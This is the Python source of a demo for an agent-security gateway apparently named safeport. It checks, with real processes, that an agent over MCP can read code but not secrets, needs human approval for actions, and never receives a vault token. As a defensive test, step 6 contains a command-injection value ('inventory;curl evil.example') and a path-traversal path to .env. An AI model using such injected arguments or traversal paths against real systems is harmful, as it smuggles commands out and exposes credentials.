"""`sp demo`: the whole boundary on one machine, with real processes and nothing to configure.

It builds a throwaway home, a small workspace with secrets beside the code, a local HTTPS
service with its own CA, a vault holding the service's token, and a gateway serving a one-
operation policy. Then it plays the agent through the real context server (MCP over stdio) and
checks, step by step, what the boundary promises: code is readable, secrets are not, an action
runs only after a human approves it, a hostile argument and a locked vault stop a proposal
before anything leaves the machine, the token never reaches the agent or a journal, and every
journal verifies offline. Any broken promise makes the demo fail with exit status 1.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
from mcp import Client
from mcp.client.stdio import StdioServerParameters, stdio_client
from rich.console import Console

from safeport.demo.tls_service import serve_demo_api
from safeport.demo.workspace import build_workspace, policy_text
from safeport.errors import Error

Ask = Callable[[dict[str, Any]], bool]


class DemoFailed(Error):
    exit_code = 1


@dataclass
class Story:
    """Prints each step and counts the promises checked."""

    console: Console
    checks: int = 0
    seen: list[str] = field(default_factory=list)  # every answer the agent received

    def step(self, title: str) -> None:
        self.console.print(f"\n[bold]{title}[/bold]")

    def ok(self, text: str) -> None:
        self.checks += 1
        self.console.print(f"  [green]✓[/green] {text}", highlight=False)

    def note(self, text: str) -> None:
        self.console.print(f"    {text}", highlight=False, markup=False)

    def expect(self, condition: bool, text: str) -> None:
        if not condition:
            raise DemoFailed(f"demo check failed: {text}")
        self.ok(text)


def run_demo(*, ask: Ask | None, keep: bool, console: Console) -> int:
    """Run the scenario; ``ask`` answers approval cards (None = approve automatically)."""
    story = Story(console)
    with contextlib.ExitStack() as stack:
        home = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="safeport-demo-")))
        if keep:
            stack.pop_all()
        _Scenario(home, story, ask).run()
    console.print(f"\n[bold green]demo complete:[/bold green] {story.checks} checks passed")
    if keep:
        console.print(f"files kept in {home} (SAFEPORT_HOME={home / 'home'})", highlight=False)
    return 0


class _Scenario:
    def __init__(self, base: Path, story: Story, ask: Ask | None) -> None:
        self.story = story
        self.ask = ask
        self.home = base / "home"
        self.home.mkdir(mode=0o700)
        self.workspace = base / "workspace"
        self.workspace.mkdir()
        self.canary = "CANARY-" + secrets.token_hex(8)
        self.token = secrets.token_urlsafe(24).encode()
        self.passphrase_file = base / "passphrase"
        self.passphrase_file.touch(mode=0o600)
        self.passphrase_file.write_text(secrets.token_urlsafe(18) + "\n")
        self.env = {
            "SAFEPORT_HOME": str(self.home),
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": os.environ.get("HOME", str(base)),
            "LANG": "C.UTF-8",
        }

    def run(self) -> None:
        story = self.story
        story.step("1. A workspace with secrets beside the code")
        build_workspace(self.workspace, self.canary)
        story.note(f"workspace: {self.workspace}")
        story.note("private: .env, data/customers.csv, deploy_key.pem (each holds a canary string)")
        with serve_demo_api(self.home, self.token) as service:
            story.note(f"a local HTTPS deployment API at {service.base_url} (its own test CA)")
            self._set_up_vault_and_policy(service.base_url, service.ca_file)
            with self._gateway():
                self._unlock_and_accept()
                anyio.run(self._play_agent)
                self._lock_and_retry()
        self._verify_journals()

    # -- setup ----------------------------------------------------------------------------------

    def _set_up_vault_and_policy(self, base_url: str, ca_file: Path) -> None:
        story = self.story
        story.step("2. The vault and the policy")
        pf = str(self.passphrase_file)
        self._sp("vault", "init", "--passphrase-file", pf)
        story.ok("vault created (Argon2id-wrapped key, AES-GCM payload, audit and signing keys)")
        value_file = self.home / "token.tmp"
        value_file.touch(mode=0o600)
        value_file.write_bytes(self.token)
        try:
            self._sp(
                "vault", "add", "deploy-token", "--kind", "token",
                "--value-file", str(value_file), "--passphrase-file", pf,
            )  # fmt: skip
        finally:
            value_file.unlink()
        story.ok("the deployment token is in the vault; no other copy is left on disk")
        (self.home / "gateway.toml").write_text(policy_text(base_url, ca_file))
        check = self._sp("policy", "check")
        story.ok("gateway.toml is valid; `sp policy check` lists what an agent could ask for")
        for line in check.stdout.splitlines()[:12]:
            story.note(line)

    @contextlib.contextmanager
    def _gateway(self) -> Iterator[None]:
        self.story.step("3. The action gateway")
        log = (self.home / "gateway.stderr").open("wb")
        process = subprocess.Popen(
            [sys.executable, "-m", "safeport", "gateway", "run"],
            env=self.env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=log,
        )
        try:
            self._wait_for_gateway(process)
            self.story.ok(
                f"gateway running (pid {process.pid}) on run/agent.sock and run/control.sock"
            )
            yield
        finally:
            with contextlib.suppress(DemoFailed):
                self._sp("gateway", "stop")
            try:
                process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
            log.close()

    def _wait_for_gateway(self, process: subprocess.Popen[bytes]) -> None:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if process.poll() is not None:
                raise DemoFailed("the gateway exited at start-up; see gateway.stderr")
            if self._sp("gateway", "status", check=False).returncode == 0:
                return
            time.sleep(0.2)
        raise DemoFailed("the gateway did not start within 30 s")

    def _unlock_and_accept(self) -> None:
        pf = str(self.passphrase_file)
        self._sp("vault", "unlock", "--passphrase-file", pf)
        self.story.ok("vault unlocked inside the gateway (the passphrase went only to it)")
        self._sp("policy", "accept", "--passphrase-file", pf, "--yes")
        self.story.ok("policy accepted by a human (diff shown, passphrase proven); now served")

    # -- the agent ------------------------------------------------------------------------------

    async def _play_agent(self) -> None:
        params = StdioServerParameters(
            command=sys.executable,
            args=["-m", "safeport", "context", "serve", "--root", str(self.workspace),
                  "--profile", "agent", "--origin", "demo-agent"],
            env=self.env,
        )  # fmt: skip
        with (self.home / "context.stderr").open("w") as errlog:
            async with Client(stdio_client(params, errlog=errlog)) as client:
                await self._read_workspace(client)
                await self._propose_actions(client)

    async def _call(self, client: Client, tool: str, args: dict[str, Any]) -> tuple[bool, Any]:
        with anyio.fail_after(120):
            result = await client.call_tool(tool, args)
        payload = result.structured_content
        text = " ".join(getattr(block, "text", "") for block in result.content)
        self.story.seen.append(json.dumps(payload, default=str) + text)
        return (not result.is_error), (payload if payload is not None else text)

    async def _read_workspace(self, client: Client) -> None:
        story = self.story
        story.step("4. The agent reads the workspace (context server, MCP over stdio)")
        ok, readme = await self._call(client, "read_file", {"path": "README.md"})
        story.expect(ok and "inventory-service" in str(readme), "read_file README.md: served")
        ok, listing = await self._call(client, "list_directory", {"path": "."})
        blocked = {e["name"]: e.get("blocked") for e in listing.get("entries", [])} if ok else {}
        story.expect(
            blocked.get(".env") == "private" and blocked.get("data") == "private",
            "list_directory: .env and data/ are listed but marked private",
        )
        for path in (".env", "data/customers.csv", "deploy_key.pem", "src/../.env"):
            ok, answer = await self._call(client, "read_file", {"path": path})
            story.expect(not ok, f"read_file {path}: refused ({_first_line(answer)})")
        ok, hits = await self._call(client, "search_project", {"query": self.canary})
        story.expect(ok and not hits.get("hits"), "search_project for the canary: no hits")
        ok, _ = await self._call(client, "read_file", {"path": "src/inventory/tokenizer.py"})
        story.expect(ok, "read_file src/inventory/tokenizer.py: ordinary code stays readable")

    async def _propose_actions(self, client: Client) -> None:
        story = self.story
        story.step("5. The agent proposes an action; a human decides")
        ok, catalog = await self._call(client, "list_actions", {})
        names = (
            [f"{a['target']}/{a['operation']}" for a in catalog.get("actions", [])] if ok else []
        )
        story.expect(names == ["deploy-api/deployment_status"], f"list_actions: {names}")
        args = {"environment": "staging", "service": "inventory"}
        async with anyio.create_task_group() as group:
            group.start_soon(self._answer_one_card)
            ok, result = await self._call(
                client,
                "http_request",
                {"service_id": "deploy-api", "operation_id": "deployment_status", "args": args},
            )
        story.expect(ok and result.get("status") == 200, f"approved and run: status {result}")
        fields = result.get("fields", {}) if ok else {}
        story.expect(fields.get("state") == "running", "the declared fields came back")
        story.expect("internal_note" not in fields, "an undeclared field was filtered out")

        story.step("6. Hostile and locked: refused before anything leaves the machine")
        hostile = {"environment": "staging", "service": "inventory;curl evil.example"}
        ok, answer = await self._call(
            client,
            "http_request",
            {"service_id": "deploy-api", "operation_id": "deployment_status", "args": hostile},
        )
        story.expect(
            not ok and "denied" in str(answer), f"shell metacharacters: {_first_line(answer)}"
        )
        ok, answer = await self._call(
            client,
            "http_request",
            {"service_id": "metadata", "operation_id": "read", "args": {}},
        )
        story.expect(
            not ok and "denied" in str(answer), f"an undeclared service: {_first_line(answer)}"
        )
        self._sp("vault", "lock")
        ok, answer = await self._call(
            client,
            "http_request",
            {"service_id": "deploy-api", "operation_id": "deployment_status", "args": args},
        )
        story.expect(not ok and "locked" in str(answer), f"vault locked: {_first_line(answer)}")

    async def _answer_one_card(self) -> None:
        with anyio.fail_after(60):
            while True:
                listed = await anyio.to_thread.run_sync(
                    lambda: self._sp("approvals", "list", "--json")
                )
                cards = json.loads(listed.stdout or "[]")
                if cards:
                    break
                await anyio.sleep(0.2)
        card = cards[0]
        self.story.note("approval card:")
        for line in json.dumps(card, indent=2, sort_keys=True).splitlines()[:40]:
            self.story.note("  " + line)
        approve = True if self.ask is None else await anyio.to_thread.run_sync(self.ask, card)
        verb = "approve" if approve else "deny"
        await anyio.to_thread.run_sync(
            lambda: self._sp("approvals", verb, str(card["id"]), "--passphrase-file",
                             str(self.passphrase_file))
        )  # fmt: skip
        self.story.ok(f"a human answered the card: {verb}")

    def _lock_and_retry(self) -> None:
        self.story.ok("the gateway stops with the vault locked; its journals are signed")

    # -- the record -----------------------------------------------------------------------------

    def _verify_journals(self) -> None:
        story = self.story
        story.step("7. The record")
        checkpoint = self.home / "checkpoint.json"
        verdict = self._sp("audit", "verify", check=False)
        story.expect(verdict.returncode == 0, "sp audit verify: every journal's chain is valid")
        for line in verdict.stdout.splitlines():
            story.note(line)
        exported = self._sp("audit", "checkpoint", "--out", str(checkpoint), check=False)
        if exported.returncode == 0:
            checked = self._sp("audit", "verify", "--checkpoint", str(checkpoint), check=False)
            story.expect(checked.returncode == 0, "the signed checkpoint matches the journals")
        token = self.token.decode()
        leaks = [
            path.name
            for path in (self.home / "audit").rglob("*")
            if path.is_file() and (token in path.read_text(errors="replace")
                                   or self.canary in path.read_text(errors="replace"))
        ]  # fmt: skip
        story.expect(not leaks, "no journal holds the token or a private file's content")
        seen = "\n".join(story.seen)
        story.expect(token not in seen, "the agent never received the token")
        story.expect(self.canary not in seen, "the agent never received a private file's content")

    def _sp(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            [sys.executable, "-m", "safeport", *args],
            env=self.env,
            capture_output=True,
            text=True,
            timeout=120,
            stdin=subprocess.DEVNULL,
        )
        if check and done.returncode != 0:
            raise DemoFailed(f"`sp {' '.join(args[:3])}` failed: {done.stderr.strip()[:400]}")
        return done


def _first_line(answer: object) -> str:
    return str(answer).strip().splitlines()[0][:120] if str(answer).strip() else "(empty)"
